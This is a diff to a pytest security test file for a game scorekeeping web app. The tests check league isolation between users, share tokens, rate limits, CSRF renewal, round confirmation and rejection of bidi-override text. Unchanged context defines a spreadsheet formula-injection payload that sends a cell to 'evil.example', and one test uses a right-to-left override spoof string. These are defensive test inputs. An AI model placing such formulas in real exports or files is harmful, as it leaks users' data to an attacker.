@@ -15,7 +15,9 @@ from datetime import timedelta
 import pytest
 
 from scorekeeper.extensions import db
+from scorekeeper.games import Game
 from scorekeeper.models import ShareLink, utcnow
+from tests.picks import any_game, other_round, rounds, seats
 
 from .helpers import post_round, sign_up
 
@@ -23,6 +25,15 @@ PASSWORD = "correct horse battery"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
 MALLORY_ADDRESS = {"REMOTE_ADDR": "203.0.113.66"}
 VICTIM_ADDRESS = {"REMOTE_ADDR": "198.51.100.7"}
+GAME = any_game()
+LEAGUE_PLAYERS = seats(GAME, ["Ann", "Bob", "Cid", "Eve"])
+LEAGUE_ROUNDS = rounds(GAME, LEAGUE_PLAYERS, 3)
+PAIR = seats(GAME, ["Ann", "Bob"])  # a casual table: as few as the game seats
+
+
+def totals_after(game: Game, players: list[str], hands: list[dict]) -> list[int]:
+    """The engine's totals after `hands`: what the API must serve."""
+    return list(game.replay(game.table(players), hands).totals)
 
 
 @dataclass
@@ -54,10 +65,10 @@ def scene(clean_app) -> Scene:
     league = victim.post("/api/v1/leagues", json={"name": "Thursday", "members": ["Ann", "Bob", "Cid", "Eve"]}).json
     match = victim.post(
         "/api/v1/matches",
-        json={"game": "nameless", "players": ["Ann", "Bob", "Cid", "Eve"], "league": league["id"], "options": {"target": 5}},
+        json={"game": GAME.id, "players": LEAGUE_PLAYERS, "league": league["id"]},
     ).json
-    for hand in ({"tricks": [2, 1, 1, 1]}, {"tricks": [1, 2, 1, 1]}, {"tricks": [2, 1, 1, 1]}):
-        post_round(victim, match["id"], hand)
+    for hand in LEAGUE_ROUNDS:
+        assert post_round(victim, match["id"], hand).status_code == 201
     members = {member["name"]: member["player_id"] for member in league["members"]}
     return Scene(clean_app, victim, mallory, league["id"], members, match["id"])
 
@@ -76,7 +87,7 @@ def test_a_new_league_with_the_victims_names_gets_players_of_its_own(scene):
     own_ids = {member["player_id"] for member in own["members"]}
     assert not own_ids & set(scene.members.values())
     # A league match of Mallory's with the same names stays in Mallory's league too.
-    scene.mallory.post("/api/v1/matches", json={"game": "nameless", "players": ["Ann", "Bob", "Cid", "Eve"], "league": own["id"]})
+    scene.mallory.post("/api/v1/matches", json={"game": GAME.id, "players": LEAGUE_PLAYERS, "league": own["id"]})
     # The roster lists only what Mallory may see: never the victim's players.
     listed = {player["id"] for player in scene.mallory.get("/api/v1/players").json}
     assert listed and not listed & set(scene.members.values())
@@ -116,9 +127,9 @@ def test_an_import_with_the_victims_ids_creates_nothing(scene):
 
 def test_players_of_casual_matches_are_their_starters_own(scene):
     # A signed-in user's casual match, and one started without an account.
-    owned = scene.victim.post("/api/v1/matches", json={"game": "nameless", "players": ["Zoe", "Yan"]}).json
+    owned = scene.victim.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["Zoe", "Yan", "Vic", "Una"])}).json
     anonymous = scene.app.test_client()
-    loose = anonymous.post("/api/v1/matches", json={"game": "nameless", "players": ["Xia", "Wu"]}).json
+    loose = anonymous.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["Xia", "Wu", "Tom", "Sue"])}).json
     for match in (owned, loose):
         for player in match["players"]:
             response = scene.mallory.patch(f"/api/v1/players/{player['player_id']}", json={"name": "pwned"})
@@ -133,8 +144,9 @@ def test_players_of_casual_matches_are_their_starters_own(scene):
 
 def test_a_share_link_of_an_anonymous_match_never_writes(scene):
     phone = scene.app.test_client()
-    match = phone.post("/api/v1/matches", json={"game": "nameless", "players": ["Ann", "Bob"]}).json
-    post_round(phone, match["id"], {"tricks": [3, 2]})
+    first = rounds(GAME, PAIR, 2)
+    match = phone.post("/api/v1/matches", json={"game": GAME.id, "players": PAIR}).json
+    assert post_round(phone, match["id"], first[0]).status_code == 201
     link = phone.post(f"/api/v1/matches/{match['id']}/share", json={}).json
     token = link["token"]
     # Opaque: the id is neither in the token nor in anything decoded from it.
@@ -142,13 +154,13 @@ def test_a_share_link_of_an_anonymous_match_never_writes(scene):
     decoded = base64.urlsafe_b64decode(token[3:] + "=" * (-len(token[3:]) % 4))
     assert match["id"].encode() not in decoded
     shared = scene.mallory.get(f"/api/v1/shared/{token}")
-    assert shared.status_code == 200 and shared.json["match"]["totals"] == [4, -1]
+    assert shared.status_code == 200 and shared.json["match"]["totals"] == totals_after(GAME, PAIR, first[:1])
     assert match["id"] not in shared.get_data(as_text=True)
     page = scene.mallory.get(f"/shared/{token}").get_data(as_text=True)
     assert match["id"] not in page
     # The token itself writes nothing anywhere.
     for path in (f"/api/v1/matches/{token}/rounds", f"/api/v1/shared/{token}"):
-        assert scene.mallory.post(path, json={"tricks": [3, 2]}).status_code in (404, 405)
+        assert scene.mallory.post(path, json=first[1]).status_code in (404, 405)
     assert len(phone.get(f"/api/v1/matches/{match['id']}").json["rounds"]) == 1
 
 
@@ -224,16 +236,16 @@ def test_anonymous_match_creation_is_limited_per_address(clean_app):
     phone = clean_app.test_client()
     phone.environ_base.update(MALLORY_ADDRESS)
     statuses = [
-        phone.post("/api/v1/matches", json={"game": "nameless", "players": [f"P{n}", f"Q{n}"]}).status_code
+        phone.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, [f"P{n}", f"Q{n}", f"R{n}", f"S{n}"])}).status_code
         for n in range(61)
     ]
     assert statuses == [201] * 60 + [429]
-    limited = phone.post("/api/v1/matches", json={"game": "nameless", "players": ["A", "B"]})
+    limited = phone.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["A", "B", "C", "D"])})
     assert limited.status_code == 429 and int(limited.headers["Retry-After"]) > 0
     # Another address is not affected.
     other = clean_app.test_client()
     other.environ_base.update(VICTIM_ADDRESS)
-    assert other.post("/api/v1/matches", json={"game": "nameless", "players": ["A", "B"]}).status_code == 201
+    assert other.post("/api/v1/matches", json={"game": GAME.id, "players": seats(GAME, ["A", "B", "C", "D"])}).status_code == 201
 
 
 def test_sign_ups_are_limited_per_address(clean_app):
@@ -308,7 +320,7 @@ def test_the_csrf_token_is_renewed_at_sign_in(clean_app):
 
 
 def table_check_match(client, **extra) -> dict:
-    body = {"game": "nameless", "players": ["Ann", "Bob"], "table_check": True, **extra}
+    body = {"game": GAME.id, "players": PAIR, "table_check": True, **extra}
     response = client.post("/api/v1/matches", json=body)
     assert response.status_code == 201, response.json
     return response.json
@@ -321,17 +333,18 @@ def test_table_check_on_a_signed_in_users_casual_match(scene):
     assert second_phone.get(f"/matches/{match['id']}").status_code == 200
     second_session = scene.app.test_client()
     assert second_session.post("/api/v1/session", json={"username": "victim", "password": PASSWORD}).status_code == 200
-    post_round(scene.victim, match["id"], {"tricks": [3, 2]})
+    hands = rounds(GAME, PAIR, 2)
+    assert post_round(scene.victim, match["id"], hands[0]).status_code == 201
     assert second_phone.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={}).status_code == 200
-    post_round(scene.victim, match["id"], {"tricks": [2, 3]})
+    assert post_round(scene.victim, match["id"], hands[1]).status_code == 201
     assert second_session.post(f"/api/v1/matches/{match['id']}/rounds/2/confirm", json={}).status_code == 200
-    assert scene.victim.get(f"/api/v1/matches/{match['id']}").json["totals"] == [3, 3]
+    assert scene.victim.get(f"/api/v1/matches/{match['id']}").json["totals"] == totals_after(GAME, PAIR, hands)
 
 
 def test_the_recording_phone_never_confirms_its_own_round(scene):
     phone = scene.app.test_client()
     match = table_check_match(phone)
-    post_round(phone, match["id"], {"tricks": [3, 2]})
+    assert post_round(phone, match["id"], rounds(GAME, PAIR, 1)[0]).status_code == 201
     same = phone.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={})
     assert same.status_code == 409 and same.json["error"] == "confirm_same_phone"
     # Without its cookie it is a new phone, and a phone new since the round cannot confirm it.
@@ -347,8 +360,8 @@ def test_the_recording_phone_never_confirms_its_own_round(scene):
 
 
 def test_a_stranger_cannot_confirm_a_league_round(scene):
-    match = table_check_match(scene.victim, players=["Ann", "Bob", "Cid", "Eve"], league=scene.league)
-    post_round(scene.victim, match["id"], {"tricks": [2, 1, 1, 1]})
+    match = table_check_match(scene.victim, players=LEAGUE_PLAYERS, league=scene.league)
+    assert post_round(scene.victim, match["id"], LEAGUE_ROUNDS[0]).status_code == 201
     assert scene.mallory.post(f"/api/v1/matches/{match['id']}/rounds/1/confirm", json={}).status_code == 403
 
 
@@ -427,7 +440,8 @@ def test_reasons_refuse_direction_overrides(scene):
     spoof = "fixed a typo \u202e5+"
     before = scene.victim.get(f"/api/v1/matches/{scene.match}").json["rounds"]
     edit = scene.victim.put(
-        f"/api/v1/matches/{scene.match}/rounds/1", query_string={"reason": spoof}, json={"tricks": [2, 1, 1, 1]}
+        f"/api/v1/matches/{scene.match}/rounds/1", query_string={"reason": spoof},
+        json=other_round(GAME, LEAGUE_PLAYERS, LEAGUE_ROUNDS, 1),
     )
     assert edit.status_code == 422 and edit.json["error"] == "reason"
     assert scene.victim.get(f"/api/v1/matches/{scene.match}").json["rounds"] == before
